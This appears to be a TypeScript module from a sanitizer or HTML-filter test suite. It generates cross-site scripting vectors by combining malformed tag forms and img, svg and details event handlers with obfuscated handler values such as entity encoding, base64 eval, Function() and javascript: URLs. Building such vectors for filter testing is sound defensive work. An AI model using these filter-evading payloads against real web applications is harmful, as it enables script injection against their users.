import { crossed, type Vector } from '../vector.ts';

/** Tags written in ways that parsers and filters disagree about; `h` is the handler. */
const forms: readonly ((tag: string, handler: string) => string)[] = [
  (tag, h) => `<${tag.toUpperCase()} ${h.replace('on', 'ON')}>`,
  (tag, h) => `<${[...tag].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join('')} ${h.replace('on', 'oN')}>`,
  (tag, h) => `<${tag}/${h}>`,
  (tag, h) => `<${tag}//${h}//>`,
  (tag, h) => `<${tag}\t${h}>`,
  (tag, h) => `<${tag}\n${h}\n>`,
  (tag, h) => `<${tag}\r${h}>`,
  (tag, h) => `<${tag}\f${h}>`,
  (tag, h) => `<${tag}\u00a0${h}>`,
  (tag, h) => `<${tag}\u000b${h}>`,
  (tag, h) => `<\u0000${tag} ${h}>`,
  (tag, h) => `<${tag}\u0000 ${h}>`,
  (tag, h) => `< ${tag} ${h}>`,
  (tag, h) => `<<${tag} ${h}>`,
  (tag, h) => `<<x>${tag} ${h}>`,
  (tag, h) => `<${tag} ${h}`,
  (tag, h) => `<${tag} ${h}<`,
  (tag, h) => `<${tag} x=">" ${h}>`,
  (tag, h) => `<${tag} x='>' ${h}>`,
  (tag, h) => `<${tag} x=\`>\` ${h}>`,
  (tag, h) => `<${tag} "x"="y" ${h}>`,
  (tag, h) => `<${tag} ${h.replace('=', ' = ')}>`,
  (tag, h) => `<${tag} ${h.replace('=', '\n=\n')}>`,
  (tag, h) => `<${tag} ${h} ${h}>`,
  (tag, h) => `<!--><${tag} ${h}>-->`,
  (tag, h) => `<!--x--!><${tag} ${h}>`,
  (tag, h) => `<!--[if true]><${tag} ${h}><![endif]-->`,
  (tag, h) => `<![CDATA[<${tag} ${h}>]]>`,
  (tag, h) => `<?xml <${tag} ${h}>?>`,
  (tag, h) => `<!DOCTYPE x><${tag} ${h}>`,
  (tag, h) => `</${tag} ${h}><${tag} ${h}>`,
  (tag, h) => `<x:${tag} ${h}><${tag} ${h}>`,
  (tag, h) => `<${tag} ${h}></${tag}x>`,
  (tag, h) => `<p><${tag} ${h}></p></p>`,
];

const tags: readonly (readonly [tag: string, handler: Vector])[] = [
  ['img', ({ code }) => `src=x onerror=${code}`],
  ['svg', ({ code }) => `onload=${code}`],
  ['details', ({ code }) => `open ontoggle=${code}`],
];

export const syntax = crossed(
  forms,
  tags,
  (form, [tag, handler]) =>
    hit =>
      form(tag, handler(hit)),
);

/** The value of a handler, written so that a filter does not read it. */
const values: readonly Vector[] = [
  ({ code }) => `"${code};"`,
  ({ code }) => `'${code}'`,
  ({ code }) => `\`${code}\``,
  ({ code }) => ` ${code} `,
  ({ code }) => `"\n${code}\n"`,
  ({ code }) => `"javascript:${code}"`,
  ({ code }) => `"${entities(code, 10)}"`,
  ({ code }) => `"${entities(code, 16)}"`,
  ({ code }) => `"${entities(code, 10).replaceAll(';', '')}"`,
  ({ code }) => `"${code.replace('(', '&lpar;').replace(')', '&rpar;')}"`,
  ({ code }) => `"${code.replace('.', '&period;')}"`,
  ({ code }) => `"${code.replace('executions', '\\u0065xecutions')}"`,
  ({ code }) => `"${code.replace('executions', '\\u{65}xecutions')}"`,
  ({ code }) => `"/*${'*/'}${code}/*${'*/'}"`,
  ({ code }) => `"${code}//"`,
  ({ code }) => `"void(${code})"`,
  ({ code }) => `"[1].map(x=>${code})"`,
  ({ code }) => `"top['${code.split('.')[0]}'].push(${/\d+/.exec(code)?.[0]})"`,
  ({ code }) => `"eval(atob('${Buffer.from(code).toString('base64')}'))"`,
  ({ code }) => `"Function('${code}')()"`,
  ({ code }) => `"setTimeout('${code}')"`,
  ({ code }) => `"import('data:text/javascript,parent.${code}')"`,
  ({ code }) => `"new Image().src='x';${code}"`,
  ({ code }) => `"location='javascript:${code}'"`,
];

const entities = (text: string, base: 10 | 16): string =>
  [...text].map(letter => `&#${base === 16 ? 'x' : ''}${(letter.codePointAt(0) ?? 0).toString(base)};`).join('');

export const handlerValues = crossed(values, ['<img src=x onerror=', '<svg onload='], (value, start) => hit => `${start}${value(hit)}>`);
